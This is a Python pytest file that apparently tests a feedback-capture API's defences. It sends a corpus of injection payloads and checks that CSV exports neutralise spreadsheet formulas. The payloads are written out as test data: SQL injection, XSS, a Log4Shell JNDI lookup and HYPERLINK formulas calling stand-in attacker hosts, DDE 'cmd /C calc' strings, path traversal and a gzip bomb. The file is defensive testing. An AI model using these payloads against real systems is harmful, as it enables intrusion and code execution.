"""A corpus of hostile payloads against the capture endpoint: each gets a 4xx JSON answer that
says what is wrong, or is stored as inert text, exactly as sent. Never a 5xx. And what a
spreadsheet would run, exported as CSV: it stays text."""

import csv
import gzip
import io
import json

import pandas
import pytest

from feedback_loop import exports
from feedback_loop.models import Dataset, DatasetItem, FeedbackEvent
from tests.conftest import EVENTS_URL, make_event
from tests.factories import TraceFactory

pytestmark = pytest.mark.django_db

INJECTIONS = [
    "'; DROP TABLE feedback_loop_feedbackevent; --",
    '" OR 1=1 --',
    "1); DELETE FROM feedback_loop_trace WHERE (1=1",
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(1)",
    "{{7*7}} {% debug %} ${7*7} #{7*7}",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    '=HYPERLINK("http://attacker.example","x")',
    "\u202etxt.exe",  # right-to-left override
    "ﷺ" * 50 + "\U0001f4a9" * 50,
]
TEXT_FIELDS = ["comment", "text", "name", "session_id", "user_id", "output"]

# What a spreadsheet runs as a formula (OWASP's list), and the line breaks that start a new row
# when a cell holding them is left unquoted, or a new line inside a quoted cell.
FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")
LINE_BREAKS = ("\r", "\n", "\r\n")
CSV_BREAKERS = [
    "Hi there\r=cmd|' /C calc'!A0",  # a bare CR was left unquoted: a second row, a formula
    *(f"{s}cmd|' /C calc'!A0" for s in FORMULA_STARTERS),
    *(f'Hi{b}{s}HYPERLINK("http://evil.example")' for b in LINE_BREAKS for s in FORMULA_STARTERS),
    *(f"{b}{s}1+1" for b in LINE_BREAKS for s in FORMULA_STARTERS),
    "\r",
    "\n",
    "\r\n",
    "ok\r",
    "\n\r=1",
    "\r\r\r=1",
    "a\r\n\r\n\t=1",
    '"quoted",\r=1,"\r\n"=2',
    '=1,"\n@2\r-3',
    "\t\r\n\t=SUM(A1:A9)",
]


@pytest.mark.parametrize("field", TEXT_FIELDS)
@pytest.mark.parametrize("payload", INJECTIONS)
def test_injection_strings_are_stored_as_inert_text(project, post_events, field, payload):
    fields = {"kind": "custom", "name": "n", field: payload[:64] if field == "name" else payload}
    if field in ("session_id", "user_id"):
        fields[field] = payload[:128]
    event = make_event(project, **fields)
    response = post_events(project, [event])
    assert response.status_code == 200
    assert response.json()["results"][0]["status"] == "accepted"
    stored = FeedbackEvent.objects.get(event_id=event["event_id"])
    assert getattr(stored, field) == fields[field]
    assert FeedbackEvent.objects.count() == 1  # the table is still there, with one row


@pytest.mark.parametrize("payload", INJECTIONS)
def test_injection_strings_in_ids_reasons_and_metadata(project, post_events, payload):
    event = make_event(
        project,
        trace_id=payload[:128],
        reasons=[payload[:64]],
        metadata={payload[:100]: payload},
    )
    response = post_events(project, [event])
    assert response.status_code == 200, response.content
    stored = FeedbackEvent.objects.get()
    assert stored.trace_key == payload[:128]
    assert stored.reasons == [payload[:64]]
    assert stored.metadata == {payload[:100]: payload}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("event_id", "'; DROP TABLE x; --"),
        ("kind", "<script>"),
        ("value", "1 OR 1=1"),
        ("timestamp", "2026-01-01'; --"),
        ("token", {"$ne": None}),
    ],
)
def test_injection_where_a_typed_value_belongs_is_a_field_error(project, post_events, field, value):
    event = make_event(project, **{field: value})
    body = post_events(project, [event]).json()
    [result] = body["results"]
    assert result["status"] == "rejected"
    assert result["error"]["field"] == field and result["error"]["message"]


def test_a_gzip_bomb_is_refused_unread(project, client):
    bomb = gzip.compress(b"{" + b" " * 50_000_000 + b"}")  # 50 MB of spaces in 49 KB
    response = client.post(
        EVENTS_URL, data=bomb, content_type="application/json", HTTP_CONTENT_ENCODING="gzip"
    )
    assert response.status_code == 415
    assert "Content-Encoding" in response.json()["error"]["message"]


def test_a_gzip_body_without_its_header_is_not_json(project, client):
    body = gzip.compress(json.dumps({"key": project.public_key, "events": []}).encode())
    response = client.post(EVENTS_URL, data=body, content_type="application/json")
    assert response.status_code == 400
    assert response.json()["error"]["code"] in ("invalid_encoding", "invalid_json")


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"events": [' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"]}",
        b'{"events": "' + b"A" * 2_000_000 + b'"}',
        b"\xff\xfe\x00\x00",
        b'{"events": [1e999999]}',
        b'{"key": "\\ud800", "events": []}',
        b"null",
        b"",
    ],
)
def test_malformed_bodies_get_a_4xx_json_answer(project, client, body):
    response = client.post(EVENTS_URL, data=body, content_type="application/json")
    assert 400 <= response.status_code < 500
    error = response.json()["error"]
    assert error["code"] and error["message"]


def test_the_longest_token_sign_trace_makes_still_verifies(project, post_events):
    # 128 characters outside the BMP in the trace id and the user id: JSON escapes each as
    # 12 bytes, so the token is several kilobytes.
    from feedback_loop import sign_trace
    from feedback_loop.internal.tokens import MAX_TOKEN_CHARS

    trace_id, user_id = "\U0001f4a9" * 128, "\U0001f600" * 128
    token = sign_trace(trace_id, project=project, user_id=user_id)
    assert 4000 < len(token) < MAX_TOKEN_CHARS
    event = make_event(project, trace_id=trace_id, token=token)
    assert post_events(project, [event]).json()["accepted"] == 1
    assert FeedbackEvent.objects.get().user_id == user_id


@pytest.mark.parametrize("value", [{"a": 1}, ["thumbs"], 1, None, True])
def test_a_kind_that_is_not_a_string_is_a_field_error(project, post_events, value):
    # Found by Schemathesis: a dict here was a 500 (it was looked up in a set of kinds).
    [result] = post_events(project, [make_event(project, kind=value)]).json()["results"]
    assert result["error"] == {
        "code": "invalid_field",
        "message": result["error"]["message"],
        "field": "kind",
    }
    assert result["error"]["message"].startswith("kind must be one of")


def test_trace_metadata_is_stored_with_unstorable_characters_replaced(project, client, secret):
    # The server API takes the host's free-form metadata as it is, except for what PostgreSQL
    # cannot store, which becomes U+FFFD.
    from feedback_loop.models import Trace

    response = client.post(
        "/feedback/api/v1/traces",
        data='{"traces": [{"trace_id": "m", "metadata": '
        '{"k\\u0000": ["a\\ud800b", "\\ud83d\\ude00"]}}]}',
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {secret}",
    )
    assert response.status_code == 200, response.content
    assert Trace.objects.get(trace_id="m").metadata == {"k\ufffd": ["a\ufffdb", "\U0001f600"]}


@pytest.mark.parametrize("field", ["input", "output", "model", "session_id", "user_id"])
def test_an_unpaired_surrogate_in_a_trace_field_is_a_400(project, client, secret, field):
    body = '{"traces": [{"trace_id": "s", "FIELD": "a\\udc00"}]}'.replace("FIELD", field)
    response = client.post(
        "/feedback/api/v1/traces",
        data=body,
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {secret}",
    )
    assert response.status_code == 400
    assert "unpaired surrogate" in response.json()["error"]["fields"]["traces"]["0"][field][0]


# -- CSV exports -----------------------------------------------------------------------------


def _csv_dataset(project):
    """A dataset whose every column holds a string of CSV_BREAKERS, one item each."""
    dataset = Dataset.objects.create(project=project, name="Breakers")
    for n, text in enumerate(CSV_BREAKERS):
        trace = TraceFactory(project=project, trace_id=f"{text}{n}")
        DatasetItem.objects.create(
            dataset=dataset,
            trace=trace,
            input=text,
            expected_output=f"{n}{text}",
            chosen=text + text,
            rejected=f"{text}\n{text}",
            metadata={text: text},
        )
    # Metadata is any JSON: a negative number starts with "-".
    DatasetItem.objects.create(dataset=dataset, input="last", metadata=-1)
    return dataset


def _line_starts(cell: str):
    """The first character of the cell and of each line in it (after a CR or an LF)."""
    return [cell[i] for i in range(len(cell)) if i == 0 or cell[i - 1] in "\r\n"]


def _assert_runs_nothing(text: str, items: int):
    by_csv = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    by_pandas = pandas.read_csv(
        io.StringIO(text, newline=""), engine="c", dtype=str, keep_default_na=False
    )
    assert by_csv[0] == list(exports.CSV_COLUMNS)
    assert list(by_pandas.columns) == list(exports.CSV_COLUMNS)
    for reading in (by_csv[1:], by_pandas.values.tolist()):
        assert len(reading) == items  # one row per item: no line break made a row of its own
        for row in reading:
            assert len(row) == len(exports.CSV_COLUMNS)
            for cell in row:
                assert not set(_line_starts(cell)) & set(FORMULA_STARTERS), repr(cell)
    # Both readers see the same cells, each the stored text with apostrophes before formulas.
    assert by_csv[1:] == by_pandas.values.tolist()
    for n, text in enumerate(CSV_BREAKERS):
        row = dict(zip(exports.CSV_COLUMNS, by_csv[n + 1], strict=True))
        assert row["input"] == exports.neutralise(text)
        assert row["rejected"] == exports.neutralise(f"{text}\n{text}")
        assert row["source_trace_id"] == exports.neutralise(f"{text}{n}")
        assert json.loads(row["metadata"]) == {text: text}
    assert by_csv[-1][-1] == "'-1"


@pytest.mark.parametrize("frozen", [False, True], ids=["live", "frozen"])
def test_a_csv_export_of_hostile_cells_holds_one_row_per_item_and_no_formula(project, frozen):
    dataset = _csv_dataset(project)
    version = exports.freeze(dataset) if frozen else None
    text = "".join(exports.stream(dataset, "csv", version))
    _assert_runs_nothing(text, len(CSV_BREAKERS) + 1)


@pytest.mark.parametrize("frozen", [False, True], ids=["live", "frozen"])
def test_the_api_csv_export_of_hostile_cells_holds_one_row_per_item_and_no_formula(
    project, client, secret, frozen
):
    dataset = _csv_dataset(project)
    params = {"format": "csv"}
    if frozen:
        params["version"] = exports.freeze(dataset).number
    response = client.get(
        f"/feedback/api/v1/datasets/{dataset.pk}/export",
        params,
        HTTP_AUTHORIZATION=f"Bearer {secret}",
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    _assert_runs_nothing(text, len(CSV_BREAKERS) + 1)


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("Hi\n=1+1", "Hi\n'=1+1"),
        ("Hi\r\n@SUM(A1)", "Hi\r\n'@SUM(A1)"),
        ("Hi\r-1\n+1", "Hi\r'-1\n'+1"),
        ("\r=1", "'\r'=1"),
        ("a=b\nc-d", "a=b\nc-d"),
    ],
)
def test_a_formula_starter_after_any_line_break_gets_an_apostrophe(cell, shown):
    assert exports.neutralise(cell) == shown
    if "\r" in cell or "\n" in cell:
        assert exports.csv_line([cell]) == f'"{cell}"\n'  # quoted, a bare CR too
